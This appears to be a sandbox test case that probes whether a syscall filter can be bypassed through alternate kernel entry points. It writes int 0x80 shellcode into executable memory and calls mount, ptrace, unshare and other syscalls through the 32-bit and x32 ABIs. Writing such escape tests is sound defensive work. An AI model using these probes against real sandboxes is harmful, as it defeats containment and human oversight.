# attack: 72 other doors into the kernel
# group: F
# tries: int 0x80, numbers of the x32 ABI, multiplexers of the 32-bit table
# limits: cpu=1 wall=5
# expect: accepted
# says: done
# control: escapes
import mmap

# push rbx; mov eax, edi; mov ebx, esi; mov ecx, edx; int 0x80; pop rbx; ret
INT80 = bytes.fromhex("53 89f8 89f3 89d1 cd80 5b c3")
NAMES = (("getpid", 20, 0), ("socketcall", 102, 1), ("ipc", 117, 23),
         ("mount", 21, 0), ("ptrace", 26, 0), ("unshare", 310, 0x20000))


def by_interrupt(number, first):
    code = mmap.mmap(-1, 4096, prot=7)
    code.write(INT80)
    enter = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int,
                             ctypes.c_int)(
        ctypes.addressof(ctypes.c_char.from_buffer(code)))
    answer = enter(number, first, 0)
    if -answer in (errno.EPERM, errno.ENOSYS):
        raise OSError(-answer, os.strerror(-answer))
    return f"the kernel answered {answer}"


if os.uname().machine == "x86_64":
    for name, number, first in NAMES:
        probe(f"int 0x80 {name}", lambda: by_interrupt(number, first))
    for name in ("getpid", "ptrace", "mount", "socket", "unshare"):
        reach(f"x32 {name}", NR[name] | 0x40000000, 0, 0, 0)
print("done")
